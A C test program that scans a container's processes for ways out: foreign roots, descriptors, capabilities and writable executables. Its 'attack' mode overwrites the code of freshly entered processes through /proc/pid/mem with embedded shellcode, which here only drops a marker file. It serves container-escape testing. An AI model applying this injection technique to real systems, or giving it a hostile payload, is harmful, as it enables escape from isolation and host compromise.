/* Looks at every process of its pid namespace as fast as it can, with CAP_SYS_PTRACE, and tells of
 * each that leads out of the container: by its root, working directory, program or descriptors, or
 * by a capability that the container doesn't have; with the argument `guest` also by a program of
 * the agent's whose mode can be changed, which a test on a host can't keep it from. With the argument
 * `attack` it does not look, but writes a program of its own over that of each process it meets so
 * early: whoever runs it makes /tmp/inside or, where it isn't in this pid namespace, /tmp/escaped.
 * Ends when /tmp/stop exists. Prints a line for each finding, then how many processes it has met
 * before they had executed their own program. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* The pidfd is the process's own, on its way to the agent. */
static const char *const harmless[] = {"pipe:", "socket:", "anon_inode:[pidfd]", "/dev/null", "/dev/p", NULL};
static char own_program[256];
static unsigned long long own_capabilities;
static long early, ended_meanwhile;
static int in_guest, attacks;

/* access("/proc/self", F_OK): only processes of this procfs's pid namespace have it; then
 * mkdir("/tmp/inside") or mkdir("/tmp/escaped"), and exit_group(99). */
extern const char payload[], payload_end[];
__asm__(".section .rodata\n"
        "payload:\n"
        "mov $21, %eax\n lea self(%rip), %rdi\n xor %esi, %esi\n syscall\n"
        "lea inside(%rip), %rdi\n test %eax, %eax\n jz 1f\n lea escaped(%rip), %rdi\n"
        "1: mov $83, %eax\n mov $0755, %esi\n syscall\n"
        "mov $231, %eax\n mov $99, %edi\n syscall\n"
        "self: .asciz \"/proc/self\"\n inside: .asciz \"/tmp/inside\"\n escaped: .asciz \"/tmp/escaped\"\n"
        "payload_end:\n"
        ".text\n");

static void found(const char *pid, const char *what, const char *detail)
{
    printf("BAD %s %s %s\n", pid, what, detail);
}

static int is_own(const char *program)
{
    return strcmp(program, own_program) == 0 || strcmp(program, "/bin/busybox") == 0;
}

static int link_of(char *target, const char *format, const char *pid, const char *name)
{
    char path[320];
    ssize_t length;
    snprintf(path, sizeof path, format, pid, name);
    length = readlink(path, target, 255);
    if (length < 0)
        return 0;
    target[length] = 0;
    return 1;
}

static unsigned long long capabilities(const char *pid)
{
    char path[320], line[256];
    unsigned long long held = 0, set;
    FILE *status;
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    status = fopen(path, "re");
    while (status && fgets(line, sizeof line, status))
        if (sscanf(line, "CapPrm: %llx", &set) == 1 || sscanf(line, "CapEff: %llx", &set) == 1)
            held |= set;
    if (status)
        fclose(status);
    return held;
}

static void look_at_descriptors(const char *pid)
{
    char path[320], target[256];
    struct dirent *entry;
    DIR *directory;
    int i;
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    directory = opendir(path);
    while (directory && (entry = readdir(directory))) {
        if (entry->d_name[0] == '.' || !link_of(target, "/proc/%s/fd/%s", pid, entry->d_name))
            continue;
        for (i = 0; harmless[i] && strncmp(target, harmless[i], strlen(harmless[i])); i++)
            ;
        if (!harmless[i])
            found(pid, "fd", target);
    }
    if (directory)
        closedir(directory);
}

static void look_at_program(const char *pid)
{
    char path[320], target[256];
    int program, fd;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    program = open(path, O_PATH | O_CLOEXEC);
    /* It may have executed its own meanwhile: what counts is what has been opened. */
    snprintf(path, sizeof path, "%d", program);
    if (program >= 0 && link_of(target, "/proc/%s/fd/%s", "self", path) && !is_own(target)) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", program);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            found(pid, "exe can be written", target);
            close(fd);
        }
        /* The mode it has: only a read-only mount keeps a privileged process from setting it. */
        if (in_guest && chmod(path, 0755) == 0)
            found(pid, "exe can be changed", target);
    }
    if (program >= 0)
        close(program);
}

/* Whichever instruction comes next, it leads to the payload. */
static void attack(const char *pid, const char *program)
{
    char path[320], line[512];
    unsigned long first, end;
    size_t length = payload_end - payload, size;
    char *code;
    FILE *maps;
    int memory;
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    memory = open(path, O_RDWR | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    maps = memory >= 0 ? fopen(path, "re") : NULL;
    while (maps && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx r-xp", &first, &end) != 2 || !strstr(line, " r-xp ") || !strstr(line, program))
            continue;
        size = end - first;
        code = malloc(size);
        if (code) {
            memset(code, 0x90, size - length);
            memcpy(code + size - length, payload, length);
            if (pwrite(memory, code, size, first) != (ssize_t)size)
                ended_meanwhile++;
            free(code);
        }
    }
    if (maps)
        fclose(maps);
    if (memory >= 0)
        close(memory);
}

static void look_at(const char *pid, const struct stat *own_root)
{
    char path[320], target[256];
    struct stat root;
    int fd;
    snprintf(path, sizeof path, "/proc/%s/root", pid);
    if (stat(path, &root) < 0) {
        ended_meanwhile++;
        return;
    }
    if (root.st_dev != own_root->st_dev || root.st_ino != own_root->st_ino)
        found(pid, "root", "is another");
    snprintf(path, sizeof path, "/proc/%s/cwd", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        if (fchdir(fd) == 0 && getcwd(target, sizeof target) && target[0] != '/')
            found(pid, "cwd", target);
        close(fd);
    }
    if (link_of(target, "/proc/%s/%s", pid, "exe") && !is_own(target)) {
        early++;
        if (attacks) {
            attack(pid, target);
            return;
        }
        look_at_program(pid);
        look_at_descriptors(pid);
        if (capabilities(pid) & ~own_capabilities)
            found(pid, "capabilities", "beyond the container's");
    }
}

int main(int argc, char **argv)
{
    char self[32];
    struct stat own_root;
    struct dirent *entry;
    long rounds = 0;
    DIR *processes = opendir("/proc");
    in_guest = argc > 1 && strcmp(argv[1], "guest") == 0;
    attacks = argc > 1 && strcmp(argv[1], "attack") == 0;
    if (!processes || stat("/", &own_root) < 0 || !link_of(own_program, "/proc/%s/%s", "self", "exe"))
        return 2;
    own_capabilities = capabilities("self");
    snprintf(self, sizeof self, "%d", (int)getpid());
    puts("watching");
    fflush(stdout);
    while (access("/tmp/stop", F_OK) < 0) {
        rewinddir(processes);
        while ((entry = readdir(processes)))
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self))
                look_at(entry->d_name, &own_root);
        rounds++;
    }
    printf("done %ld early %ld\n", rounds, early);
    return 0;
}
